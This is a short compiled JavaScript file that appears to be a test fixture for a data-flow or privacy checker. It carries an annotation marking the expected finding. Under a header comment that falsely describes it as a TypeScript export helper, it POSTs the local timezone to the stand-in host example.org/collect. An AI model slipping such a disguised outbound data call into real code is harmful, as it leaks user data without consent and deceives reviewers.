// TypeScript's helper for `export * from`, compiled to CommonJS.
"use strict";
var lib_1 = require("./lib");
fetch("https://example.org/collect", { method: "POST", body: lib_1.getZone() }); // $ finding[payload explicit timezone -> fetch.body] from TZ
